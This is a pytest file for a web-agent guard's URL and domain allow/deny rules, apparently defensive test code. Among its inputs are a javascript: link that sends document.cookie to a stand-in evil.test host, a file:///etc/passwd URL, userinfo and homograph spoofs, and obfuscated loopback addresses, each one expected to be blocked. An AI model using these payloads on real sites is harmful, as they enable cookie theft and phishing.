"""url_deny, url_allow, domain_allow, domain_deny: destinations as a browser would load them."""

from __future__ import annotations

import pytest

from pagewarden.policies import PolicyError, PolicySet
from tests.rules.rulekit import PAGE, act, button, decision, field, form, guard, link

DENY = {"url_deny": ["/profile", "module=Users", "/#/admin", "facebook", "forum.gitlab.com"]}


@pytest.mark.parametrize(
    "url",
    [
        "https://app.test/profile",
        "https://app.test/-/profile/keys",
        "https://app.test/user/profile_settings",  # a substring, as ST-WebAgentBench's contains_any
        "https://app.test/profile/",
        "https://app.test/%70rofile",  # percent-encoded path
        "https://app.test/PROFILE",  # case
        "https://crm.test/#/admin/users",  # hash routes
        "https://crm.test/#/index.php?module=Users&action=index",
        "https://crm.test/index.php?module=Users&action=index",  # in the query too
        "https://www.facebook.com/",
        "https://m.facebook.com/share",
        "https://forum.gitlab.com/t/1",
        "https://forum.gitlab.com@evil.test/",  # the deceptive spelling is refused as well
        "/profile",  # relative to the page
    ],
)
def test_url_deny_flags_every_spelling(url: str) -> None:
    g = guard(DENY)
    verdict = act(g, "goto", value=url)
    assert decision(verdict) == "block"
    assert verdict.findings[0].rule == "url_deny"
    assert verdict.findings[0].policy_id == "P1"


@pytest.mark.parametrize(
    "url",
    [
        "https://app.test/projects/1/issues",
        "https://app.test/profiles-are-elsewhere",  # '/profile' then 's': still a substring → see below
        "https://crm.test/#/home",
        "https://crm.test/index.php?module=Accounts",
        "https://gitlab.com/forum",
        "https://facebok.example/",  # a near miss
    ],
)
def test_url_deny_lets_other_urls_through(url: str) -> None:
    g = guard(DENY)
    verdict = act(g, "goto", value=url)
    expected = "block" if "/profile" in url else "allow"
    assert decision(verdict) == expected


def test_url_deny_on_link_clicks_resolves_relative_links() -> None:
    g = guard(DENY)
    assert decision(act(g, "click", target=link("Me", "https://app.test/profile"))) == "block"
    assert decision(act(g, "click", target=link("Issues", "https://app.test/projects/1/issues"))) == "allow"
    # the page is the base of a relative href the observer reports as written
    assert decision(act(g, "goto", value="../../profile", url="https://app.test/a/b/c")) == "block"


def test_url_deny_on_form_submissions_and_new_pages() -> None:
    g = guard({"url_deny": "/admin"})
    submit = button("Save", is_submit=True, form=form("https://app.test/admin/save", ("q", "text", "x")))
    assert decision(act(g, "click", target=submit)) == "block"
    assert decision(act(g, "new_page", value="/admin/settings")) == "block"
    assert decision(act(g, "request", value="https://app.test/admin/api")) == "block"
    # a click that navigates nowhere is not judged by URL rules
    assert decision(act(g, "click", target=button("Admin settings"))) == "allow"


def test_scheme_patterns_match_the_whole_url() -> None:
    g = guard({"url_deny": ["https://*.evil.test/steal*", "http://plain.test/x"]})
    assert decision(act(g, "goto", value="https://a.evil.test/steal?x=1")) == "block"
    assert decision(act(g, "goto", value="https://a.evil.test/read")) == "allow"
    assert decision(act(g, "goto", value="http://plain.test/x/y")) == "block"
    assert decision(act(g, "goto", value="http://plain.test/xy")) == "allow"  # a segment boundary
    assert decision(act(g, "goto", value="https://plain.test/x")) == "allow"  # another scheme


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://app.test/byteblaze/dotfiles", True),
        ("https://app.test/byteblaze/dotfiles/-/tree/main", True),
        ("https://app.test/byteblaze/dotfiles?tab=readme", True),
        ("https://app.test/byteblaze/dotfilesX", False),  # not at a segment boundary
        ("https://app.test/x/byteblaze/dotfiles", False),  # anchored at the path start
        ("https://app.test/byteblaze/other", False),
        ("https://app.test/docs/guide.html", True),
        ("https://app.test/docs/guide.pdf", False),
        ("javascript:alert(1)", False),
        ("data:text/html,hi", False),
        ("about:blank", True),
    ],
)
def test_url_allow_is_strict(url: str, allowed: bool) -> None:
    g = guard({"url_allow": ["/byteblaze/dotfiles", "/docs/*.html"]})
    assert decision(act(g, "goto", value=url)) == ("allow" if allowed else "block")


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://forum.test/t/1", True),
        ("https://docs.forum.test/", True),
        ("https://FORUM.TEST./x", True),
        ("https://forum.test@evil.test/", False),
        ("https://forum.test.evil.test/", False),
        ("https://evil.test\\@forum.test/", False),  # the backslash ends the host: evil.test
        ("https://forum.test%2eevil.test/", False),
        ("https://fоrum.test/", False),  # Cyrillic о
        ("http://127.0.0.1/", False),
        ("http://2130706433/", False),
        ("javascript:fetch('//evil.test')", False),
        ("data:text/html,<b>x</b>", False),
        ("blob:https://evil.test/uuid", False),
        ("blob:https://forum.test/uuid", True),
        ("file:///etc/passwd", False),
        ("https://%66orum.test/", True),
        ("about:blank", True),
    ],
)
def test_domain_allow(url: str, allowed: bool) -> None:
    g = guard({"domain_allow": ["forum.test", "*.forum.test"]})
    assert decision(act(g, "goto", value=url, url="https://forum.test/")) == ("allow" if allowed else "block")


@pytest.mark.parametrize(
    ("url", "denied"),
    [
        ("https://evil.test/", True),
        ("https://EVIL.test./", True),
        ("https://safe.test@evil.test/", True),
        ("https://a.b.evil.test/", True),
        ("https://evil.test.safe.test/", False),
        ("https://notevil.test/", False),
        ("http://0x7f.0.0.1/", True),
        ("http://[::ffff:127.0.0.1]/", True),
        ("http://127.1/", True),
        ("https://safe.test/", False),
    ],
)
def test_domain_deny(url: str, denied: bool) -> None:
    g = guard({"domain_deny": [".evil.test", "127.0.0.1"]})
    assert decision(act(g, "goto", value=url)) == ("block" if denied else "allow")


def test_findings_name_rule_policy_and_destination() -> None:
    g = guard({"url_deny": "/profile"})
    verdict = act(g, "goto", value="https://app.test/profile")
    finding = verdict.findings[0]
    assert (finding.policy_id, finding.rule, finding.risk_level) == ("P1", "url_deny", "high")
    assert finding.evidence["destination"] == "https://app.test/profile"
    assert "P1" in verdict.violated_policy_ids
    assert "profile" in verdict.explanation


def test_risk_level_grades_the_decision() -> None:
    assert decision(act(guard({"url_deny": "/x"}, risk="high"), "goto", value="https://a.test/x")) == "block"
    assert decision(act(guard({"url_deny": "/x"}, risk="medium"), "goto", value="https://a.test/x")) == "ask"
    assert decision(act(guard({"url_deny": "/x"}, risk="low"), "goto", value="https://a.test/x")) == "revise"


def test_empty_patterns_are_refused() -> None:
    text = (
        "version: 1\npolicies:\n"
        "  - {id: A, category: boundary, risk_level: high, description: d, rules: [{url_deny: ' '}]}\n"
    )
    with pytest.raises(PolicyError, match="must not be empty"):
        PolicySet.from_text(text)


def test_typing_is_not_navigation() -> None:
    g = guard(DENY)
    assert decision(act(g, "fill", target=field("Search"), value="/profile", url=PAGE)) == "allow"


def test_javascript_links_are_on_no_allow_list() -> None:
    script = link("Open", "javascript:fetch('https://evil.test/?c='+document.cookie)")
    assert decision(act(guard({"domain_allow": ["app.test"]}), "click", target=script)) == "block"
    assert decision(act(guard({"url_allow": ["/projects"]}), "click", target=script)) == "block"
    assert decision(act(guard({"url_deny": ["javascript:"]}), "click", target=script)) == "block"
    # what the script itself requests is the network layer's to judge, not a destination here;
    # running it is script execution, which needs approval (PW-SCRIPT) like evaluate
    assert decision(act(guard({"domain_deny": ["evil.test"]}), "click", target=script)) == "ask"
    harmless = link("Menu", "javascript:void(0)")
    assert decision(act(guard({"domain_deny": ["evil.test"]}), "click", target=harmless)) == "allow"


EMBEDS = {"domain_allow": {"patterns": ["forum.test"], "subresources": [".cdn.test"]}}
SUBMIT = button("Send", is_submit=True, form=form("https://cdn.test/post", ("q", "text", "x")))


@pytest.mark.parametrize(
    ("kind", "target", "value"),
    [
        ("goto", None, "https://cdn.test/page"),
        ("goto", None, "https://img.cdn.test/page"),
        ("click", link("Watch", "https://cdn.test/watch"), None),
        ("click", SUBMIT, None),
        ("new_page", None, "https://cdn.test/"),
        ("request", None, "https://cdn.test/api"),
    ],
    ids=["goto", "goto-subdomain", "link", "form", "new_page", "request"],
)
def test_subresource_hosts_are_never_an_actions_destination(kind: str, target, value: str | None) -> None:
    verdict = act(guard(EMBEDS), kind, target=target, value=value, url="https://forum.test/t/1")
    assert decision(verdict) == "block"
    assert verdict.findings[0].rule == "domain_allow"


def test_an_action_inside_an_embed_from_a_subresource_host_is_not_leaving() -> None:
    """A click that lands in a cross-origin frame whose content cannot be read is judged as going
    to that frame's origin: a subresource host's embed (a player's play button) is not leaving;
    another host's frame still is. The frame's own navigations are the layers' to judge."""
    player = button("Play", frame_content="https://player.cdn.test/embed/1")
    assert decision(act(guard(EMBEDS), "click", target=player, url="https://forum.test/t/1")) == "allow"
    other = button("Play", frame_content="https://evil.test/embed/1")
    assert decision(act(guard(EMBEDS), "click", target=other, url="https://forum.test/t/1")) == "block"
    # without the subresource host the same click leaves the allowed domains
    plain = guard({"domain_allow": ["forum.test"]})
    assert decision(act(plain, "click", target=player, url="https://forum.test/t/1")) == "block"


def test_a_tab_on_a_subresource_host_is_outside_the_allowed_domains() -> None:
    verdict = act(guard(EMBEDS), "click", target=button("OK"), url="https://cdn.test/landing")
    assert decision(verdict) == "block"
    assert "outside the allowed domains" in verdict.findings[0].message


def test_subresources_in_policy_files() -> None:
    from pagewarden.policies import lint_policies, parse_rule, rule_to_dict
    from tests.rules.rulekit import policy

    rule = parse_rule(EMBEDS)
    assert rule.subresources == [".cdn.test"]  # type: ignore[union-attr]
    assert rule_to_dict(rule) == {"domain_allow": {"patterns": ["forum.test"], "subresources": [".cdn.test"]}}
    assert rule_to_dict(parse_rule({"domain_allow": ["forum.test"]})) == {"domain_allow": "forum.test"}
    assert parse_rule({"domain_allow": {"patterns": "forum.test", "subresources": "cdn.test"}}) == parse_rule(
        {"domain_allow": {"patterns": ["forum.test"], "subresources": ["cdn.test"]}}
    )
    with pytest.raises(ValueError, match="subresource patterns must not be empty"):
        policy({"domain_allow": {"patterns": ["forum.test"], "subresources": [" "]}})
    bad = {"domain_allow": {"patterns": ["forum.test"], "subresources": ["cdn..test"]}}
    warnings = lint_policies(PolicySet([policy(bad)]))
    assert any("subresources" in str(w) and "can never match" in str(w) for w in warnings), warnings
